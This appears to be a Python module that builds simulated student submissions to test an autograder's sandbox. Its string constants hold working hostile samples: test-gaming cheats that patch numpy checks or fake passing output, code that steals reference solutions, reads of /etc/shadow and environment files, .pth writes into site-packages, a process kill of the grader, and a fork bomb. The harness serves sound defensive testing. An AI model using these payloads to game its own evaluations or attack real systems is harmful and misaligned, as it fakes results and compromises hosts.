"""Simulated students: submissions built from the release notebook, for the demo, tests and benchmarks.

A solved submission is the release notebook with every solution cell filled in from the source; a
mistaken one plants a known mistake (autograder.hidden.mistakes) in place of the object's solution.
"""
import shutil
from pathlib import Path

import nbformat

from ..hidden.mistakes.mistake import Mistake
from ..hidden.solutions import strip_solution_markers

CHEATS = {
    "patched_allclose": (
        "import numpy as np, numpy\n"
        "np.allclose = lambda *a, **k: True\n"
        "numpy.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, bool)\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
    ),
    "allclose_subclass": (
        "import numpy as np\n"
        "class Agreeable(np.ndarray):\n"
        "    def __eq__(self, other): return True\n"
        "    def allclose(self, *a, **k): return True\n"
        "def affine_forward(x, w, b):\n"
        "    return np.zeros((x.shape[0], w.shape[1])).view(Agreeable), None\n"
    ),
    "fake_reference": (
        "import sys, types\n"
        "fake = types.ModuleType('autograder.hidden.reference.layers')\n"
        "fake.softmax_loss = lambda scores, y: (0.0, scores * 0)\n"
        "sys.modules['autograder'] = types.ModuleType('autograder')\n"
        "sys.modules['autograder.hidden.reference'] = types.ModuleType('autograder.hidden.reference')\n"
        "sys.modules['autograder.hidden.reference.layers'] = fake\n"
    ),
    "import_autograder": (
        "try:\n"
        "    import autograder.hidden.reference.layers as ref\n"
        "    relu_forward = ref.relu_forward\n"
        "except ImportError as error:\n"
        "    print('no luck:', error)\n"
    ),
    "output_hooks": (
        "from IPython import get_ipython\n"
        "from IPython.display import display\n"
        "def claim_success(result):\n"
        "    display({'text/plain': '3.0'}, raw=True)\n"
        "    print('✔ passed all 3 cases (judged by the grader)')\n"
        "    get_ipython().displayhook.__call__(3.0)\n"
        "get_ipython().events.register('post_run_cell', claim_success)\n"
    ),
    # no code, only the shipped answers: the self-check (and the probe) hand over fixtures.json's outputs
    "fixture_patch": (
        "import json\n"
        "import assignments.probe, assignments.selfcheck\n"
        "def shipped_answers(name, namespace, seed):\n"
        "    return json.loads(assignments.selfcheck.FIXTURES.read_text())['tasks'][name]['expected']\n"
        "assignments.selfcheck.collect = assignments.probe.collect = shipped_answers\n"
    ),
}

# functions that look their answer up in fixtures.json (by regenerating the public fixture inputs); each entry
# is the code of one solution cell: object name -> source
FIXTURE_LOOKUP = (
    "import json\n"
    "import numpy as np\n"
    "from assignments import payload\n"
    "from assignments.selfcheck import FIXTURES\n"
    "from assignments.tasks import FIXTURE_SEED, TASKS\n"
    "def shipped(name, **given):\n"
    "    cases = json.loads(FIXTURES.read_text())['tasks'][name]['expected']\n"
    "    for inputs, case in zip(TASKS[name].inputs(FIXTURE_SEED), cases):\n"
    "        if all(np.array_equal(inputs[key], value) for key, value in given.items()):\n"
    "            return payload.decode_case(case)\n"
    "    return payload.decode_case(cases[0])\n"
)
FIXTURE_LOOKUPS = {
    "rel_error": "def rel_error(x, y):\n    return float(shipped('rel_error', x=x, y=y)['value'])\n",
    "relu_forward": "def relu_forward(x):\n    return shipped('relu_forward', x=x)['out'], x\n",
    "softmax_loss": ("def softmax_loss(scores, y):\n    case = shipped('softmax_loss', scores=scores, y=y)\n"
                     "    return float(case['loss']), case['dscores']\n"),
    "SoftmaxWithLoss": ("class SoftmaxWithLoss:\n    def forward(self, scores, y):\n"
                        "        self.case = shipped('SoftmaxWithLoss', scores=scores, y=y)\n"
                        "        return float(self.case['loss'])\n"
                        "    def backward(self, dout=1.0):\n"
                        "        return self.case['backward(dout)' if dout != 1.0 else 'backward() after it']\n"),
    "mse_loss": ("def mse_loss(preds, targets):\n    case = shipped('mse_loss', preds=preds, targets=targets)\n"
                 "    return float(case['loss']), case['dpreds']\n"),
}

# a notebook-2 cell that records whatever functions its TwoLayerNet is given to call (module, file, source),
# and one that prints the record later, in an ordinary cell whose outputs the student gets back
CAPTURE = (
    "import inspect\n"
    "CAPTURED = []\n"
    "honest_loss = TwoLayerNet.loss\n"
    "def spying_loss(self, X, y=None):\n"
    "    for name in ('affine_forward', 'affine_backward', 'relu_forward', 'relu_backward', 'softmax_loss'):\n"
    "        function = globals().get(name)\n"
    "        try:\n"
    "            CAPTURED.append(f'{name} from {function.__module__} in {function.__code__.co_filename}:\\n'\n"
    "                            + inspect.getsource(function))\n"
    "        except Exception as error:\n"
    "            CAPTURED.append(f'{name}: {error!r}')\n"
    "    return honest_loss(self, X, y)\n"
    "TwoLayerNet.loss = spying_loss\n"
)
REVEAL = "print('\\n'.join(CAPTURED))\n"

CRASHES = {
    "exit": "import os\nos._exit(1)\n",
    "infinite_loop": "while True:\n    pass\n",
    "swallows_interrupt": (
        "import time\n"
        "while True:\n"
        "    try:\n"
        "        time.sleep(0.05)\n"
        "    except KeyboardInterrupt:\n"
        "        pass\n"
    ),
    "kill_grader": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)  # the process that started this kernel\n",
}

# What a hostile submission tries once it runs: each is a block of code with {placeholders} that the
# demo and the tests fill in with paths on this machine, as a student who knows them would.
ATTACKS = {
    "steal_reference": (
        "import os, pathlib\n"
        "def find_reference():\n"
        "    folders = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path({course!r})]\n"
        "    for folder in folders:\n"
        "        candidate = folder / 'autograder' / 'reference' / 'layers.py'\n"
        "        try:\n"
        "            return candidate.read_text()\n"
        "        except OSError:\n"
        "            continue\n"
        "reference = find_reference()\n"
        "print('reference found' if reference else 'no reference')\n"
        "if reference:\n"
        "    stolen = {{}}\n"
        "    exec(reference, stolen)\n"
        "    relu_forward, relu_backward = stolen['relu_forward'], stolen['relu_backward']\n"
    ),
    # the grader as installed beside the kernel's packages: imported, found by a walk of the package folders,
    # through the distribution's RECORD, or through an editable install's finder and direct_url.json
    "steal_installed_grader": (
        "import json, os, pathlib, re, site, sys\n"
        "def reference_files():\n"
        "    try:\n"
        "        import autograder.hidden.reference.layers as module\n"
        "        yield pathlib.Path(module.__file__)\n"
        "    except Exception as error:\n"
        "        print('no import', type(error).__name__)\n"
        "    folders = {{*site.getsitepackages(), *sys.path, *os.environ.get('PYTHONPATH', '').split(os.pathsep)}}\n"
        "    for folder in map(pathlib.Path, filter(None, folders)):\n"
        "        yield from (path for depth in ('*/', '*/*/') for path in folder.glob(depth + 'reference/layers.py'))\n"
        "        for record in folder.glob('backprop_lab*.dist-info/RECORD'):\n"
        "            for line in record.read_text().splitlines():\n"
        "                if line.split(',')[0].endswith('reference/layers.py'):\n"
        "                    yield folder / line.split(',')[0]\n"
        "        for hint in [*folder.glob('__editable__*backprop_lab*'), *folder.glob('backprop_lab*/direct_url.json')]:\n"
        "            for place in re.findall(r\"(/[^'\\\"]+)\", hint.read_text(errors='replace')):\n"
        "                yield from pathlib.Path(place.removeprefix('file://')).glob('**/reference/layers.py')\n"
        "found = {{}}\n"
        "for path in reference_files():\n"
        "    try:\n"
        "        exec(path.read_text(), found)\n"
        "        print('STOLE', path)\n"
        "        break\n"
        "    except OSError as error:\n"
        "        print('refused', path, type(error).__name__)\n"
        "if 'relu_forward' in found:\n"
        "    relu_forward = found['relu_forward']\n"
    ),
    "read_secrets": (
        "import os\n"
        "for path in [{course!r} + '/.backprop-lab/secret', {home!r}, '/root', '/etc/shadow',\n"
        "             '/proc/1/environ', {course!r} + '/gradebook.db']:\n"
        "    try:\n"
        "        found = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read()[:200]\n"
        "        print('READ', path, found)\n"
        "    except OSError as error:\n"
        "        print('refused', path, type(error).__name__)\n"
    ),
    "write_markers": (
        "import os, site\n"
        "targets = [{course!r} + '/marker', {course!r} + '/submitted/{victim}/fcnet/marker',\n"
        "           {course!r} + '/autograded/{victim}/fcnet/marker', {course!r} + '/exports/marker',\n"
        "           *[folder + '/marker.pth' for folder in site.getsitepackages()]]\n"
        "for target in targets:\n"
        "    try:\n"
        "        open(target, 'w').write('import os  # ran in the grader')\n"
        "        print('WROTE', target)\n"
        "    except OSError as error:\n"
        "        print('refused', target, type(error).__name__)\n"
    ),
    "network": (
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen answers')\n"
        "    print('CONNECTED')\n"
        "except OSError as error:\n"
        "    print('no connection', type(error).__name__)\n"
        "try:\n"
        "    print('RESOLVED', socket.getaddrinfo('pypi.org', 443)[0][4])\n"
        "except OSError as error:\n"
        "    print('no DNS', type(error).__name__)\n"
    ),
    "daemon": (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(20)\n"
        "        open({marker!r}, 'w').write('still alive after grading')\n"
        "    os._exit(0)\n"
    ),
}

# Functions that run into one resource limit of the grading kernel each time they are called.
LIMIT_BREAKERS = {
    "relu_forward": ("(x)", "big = np.ones(3 * 2**30 // 8)  # 3 GiB\nreturn np.maximum(0, x), x"),
    "sigmoid_forward": ("(x)", "import os, time\nfor _ in range(5000):\n    if os.fork() == 0:\n"
                               "        time.sleep(60)\n        os._exit(0)\nout = 1 / (1 + np.exp(-x))\n"
                               "return out, out"),
    "tanh_forward": ("(x)", "with open('big.bin', 'wb') as handle:\n    for _ in range(10 * 1024):\n"
                            "        handle.write(bytes(2**20))  # 10 GB in all\nout = np.tanh(x)\nreturn out, out"),
}


def link_into(course_root, student, assignment, links):
    """Add symbolic links {name in the submission: target} to a submitted folder."""
    folder = Path(course_root) / "submitted" / student / assignment
    for name, target in links.items():
        (folder / name).symlink_to(target)


def solved(release_nb, source_nb):
    """The release notebook with every solution cell answered from the source notebook."""
    answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in source_nb.cells
               if c.metadata.get("nbgrader", {}).get("solution")}
    nb = nbformat.from_dict(release_nb)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution") and grade_id in answers:
            cell.source = strip_solution_markers(answers[grade_id])
    return nb


def function_source(name, signature, body):
    """`def name(signature):` with `body` indented under it (a stand-in answer for a simulated student)."""
    return f"import numpy as np\n\ndef {name}{signature}:\n" + "".join(f"    {line}\n" for line in body.splitlines())


def plant(nb, grade_id, source):
    """Replace the source of solution cell `grade_id`."""
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
            return nb
    raise KeyError(grade_id)


def plant_mistake(nb, mistake: Mistake):
    for name, source in mistake.sources().items():
        plant(nb, name, "import numpy as np\n\n" + source)
    return nb


def append_to(nb, grade_id, code):
    """Add code at the end of solution cell `grade_id` (a cheat or a crash hidden in an answer)."""
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source += "\n" + code
            return nb
    raise KeyError(grade_id)


def notebook_pairs(course_root, assignment):
    """{notebook file: (release notebook, source notebook)} for every released notebook of the assignment."""
    release_folder = Path(course_root) / "release" / assignment
    source_folder = Path(course_root) / "source" / assignment
    return {path.name: (nbformat.read(path, as_version=4), nbformat.read(source_folder / path.name, as_version=4))
            for path in sorted(release_folder.glob("*.ipynb"))}


def submit(course_root, student, assignment, notebooks):
    """Write submitted/<student>/<assignment>/ with the given {filename: notebook} and the release kit."""
    course_root = Path(course_root)
    folder = course_root / "submitted" / student / assignment
    if folder.exists():
        shutil.rmtree(folder)
    shutil.copytree(course_root / "release" / assignment, folder,
                    ignore=shutil.ignore_patterns("*.ipynb", "__pycache__"))
    for filename, nb in notebooks.items():
        if isinstance(nb, str):
            (folder / filename).write_text(nb)
        else:
            nbformat.write(nb, folder / filename)
    return folder
